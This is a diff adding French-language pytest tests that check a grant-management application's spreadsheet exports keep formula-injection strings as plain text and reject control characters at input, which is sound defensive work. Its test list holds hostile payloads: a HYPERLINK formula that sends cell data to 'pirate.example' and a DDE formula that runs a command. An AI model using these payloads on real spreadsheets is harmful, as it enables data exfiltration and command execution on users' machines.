@@ -555,3 +555,110 @@ def test_les_copies_sont_effacees_quand_l_application_se_ferme(tmp_path):
     assert len(lignes) >= 2, resultat.stderr
     assert lignes[-1] == "False", "lancer() a rendu la main sans effacer les copies"
     assert not Path(lignes[0]).exists()
+
+
+# --- Point 4 : aucun export ne change un texte en formule ; les contrôles refusés à la saisie -----------
+
+HOSTILES = ['=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SOMME(A1:A2)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def _relu(texte: str) -> str:
+    """Le texte tel qu'un classeur le rend : le XML d'un .xlsx ramène tout retour chariot à un saut de ligne."""
+    return texte.replace("\r", "\n")
+
+
+def _ligne_liste(numero: str, intitule: str, porteur: str = "Centre social Matisse"):
+    from instruction.services.lignes import LigneDossier
+
+    return LigneDossier(1, numero, intitule, porteur, "CDV", 2027, "Beau Marais", "depose",
+                        dt.datetime(2026, 11, 2, 9, 30), 150000, 75000, dt.date(2026, 11, 2))
+
+
+def test_la_liste_des_dossiers_exportee_garde_les_textes_hostiles_en_texte(tmp_path):
+    """Avant : « =HYPERLINK(…) » devenait une formule du classeur (type f). Maintenant : du texte, relu tel
+    quel ; les totaux écrits par le programme restent des formules."""
+    from openpyxl import load_workbook
+
+    from instruction.rapports.liste_dossiers import exporter
+
+    lignes = [_ligne_liste(f"CDV-2027-{i:03d}", texte, porteur=texte) for i, texte in enumerate(HOSTILES, 1)]
+    lignes.append(_ligne_liste("CDV-2027-099", "Contrôles gardés avant\x00 : \x07\x1b fin"))
+    fichier = exporter(lignes, tmp_path / "liste.xlsx", titre="Dossiers [2027] / CDV ?")
+    classeur = load_workbook(fichier)
+    feuille = classeur.active
+    assert feuille.title == "Dossiers  2027    CDV"
+    for rang, texte in enumerate(HOSTILES, start=2):
+        for colonne in (2, 3):
+            cellule = feuille.cell(rang, colonne)
+            assert (cellule.data_type, cellule.value) == ("s", _relu(texte)), (rang, colonne)
+            assert cellule.quotePrefix
+    controles = feuille.cell(len(HOSTILES) + 2, 2)
+    assert (controles.data_type, controles.value) == ("s", "Contrôles gardés avant\u2400 : \u2407\u241b fin")
+    total = feuille.cell(len(lignes) + 2, 9)
+    assert (total.data_type, total.value) == ("f", f"=SUM(I2:I{len(lignes) + 1})")
+    formules = [c.coordinate for rangee in feuille.iter_rows() for c in rangee if c.data_type == "f"]
+    assert formules == [f"I{len(lignes) + 2}", f"J{len(lignes) + 2}"]
+
+
+def test_l_historique_exporte_garde_les_textes_hostiles_en_texte(tmp_path):
+    from openpyxl import load_workbook
+
+    from instruction.rapports.historique import exporter
+    from instruction.services.historique import Entree
+
+    entrees = [Entree(i, dt.datetime(2026, 11, 2, 8, 0), "m.lefebvre", "dossier", "modification", "Intitulé",
+                      "ancien\x00", texte) for i, texte in enumerate(HOSTILES, 1)]
+    feuille = load_workbook(exporter(entrees, tmp_path / "historique", titre="=Historique")).active
+    assert (feuille.cell(1, 1).data_type, feuille.cell(1, 1).value) == ("s", "=Historique")
+    for rang, texte in enumerate(HOSTILES, start=3):
+        assert (feuille.cell(rang, 7).data_type, feuille.cell(rang, 7).value) == ("s", _relu(texte))
+        assert feuille.cell(rang, 6).value == "ancien\u2400"
+    assert not [c for rangee in feuille.iter_rows() for c in rangee if c.data_type == "f"]
+
+
+def test_tout_classeur_enregistre_est_protege_meme_ecrit_sans_les_aides(tmp_path):
+    """Un export à venir qui oublierait ``ajouter`` : l'enregistrement rend quand même ses textes en texte."""
+    from openpyxl import Workbook, load_workbook
+
+    from instruction.rapports import tableur
+
+    classeur = Workbook()
+    feuille = classeur.active
+    feuille.append(["=1+1", "-1", "texte", 3])
+    tableur.ecrire(feuille, 2, 1, tableur.Formule("=SUM(D1:D1)"))
+    relu = load_workbook(tableur.enregistrer(classeur, tmp_path / "a.xlsx")).active
+    assert [(c.data_type, c.value) for c in relu[1]] == [("s", "=1+1"), ("s", "-1"), ("s", "texte"), ("n", 3)]
+    assert (relu["A2"].data_type, relu["A2"].value) == ("f", "=SUM(D1:D1)")
+
+
+@pytest.mark.parametrize("texte", ["avec un \x00 nul", "échappement \x1b[31m rouge", "cloche \x07", "\x7f"])
+def test_un_caractere_de_controle_est_refuse_a_la_saisie(texte):
+    from instruction.validation import Verificateur
+
+    verificateur = Verificateur()
+    assert verificateur.texte("intitule", texte, "Intitulé de l'action") is None
+    message = verificateur.par_champ()["intitule"]
+    assert message.startswith("Intitulé de l'action : le texte contient un caractère invisible interdit (U+")
+    assert "copier-coller" in message
+    # Tabulations et sauts de ligne restent permis (textes sur plusieurs lignes, collés d'un tableur).
+    assert Verificateur().texte("resume", "ligne 1\r\nligne 2\tsuite", "Résumé") == "ligne 1\r\nligne 2\tsuite"
+
+
+def test_un_caractere_de_controle_est_refuse_par_tout_service_sans_rien_ecrire(contexte):
+    """Hors formulaire (un motif, un commentaire…), le filet de la base refuse aussi, en français."""
+    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
+    dossier_id = fabrique.dossier(contexte, complet=False)
+    avant = fabrique.photographie(contexte)
+    with pytest.raises(DonneesInvalides, match=r"caractère invisible interdit \(U\+0000\)") as erreur:
+        with contexte.unite() as uow:
+            service_instruction.changer_etat(uow, dossier_id, Etat.SANS_SUITE, "Abandon\x00 du porteur")
+            uow.valider()
+    assert "« motif » (transition)" in erreur.value.message
+    assert fabrique.photographie(contexte) == avant
+    with contexte.unite() as uow:  # une valeur d'avant, gardée telle quelle, n'empêche pas d'en changer une autre
+        uow.session.execute(update(m.Dossier).where(m.Dossier.id == dossier_id).values(resume="ancien\x07"))
+        uow.valider()
+    with contexte.unite() as uow:
+        uow.session.get(m.Dossier, dossier_id).lieux = "Salle Matisse"
+        uow.valider()
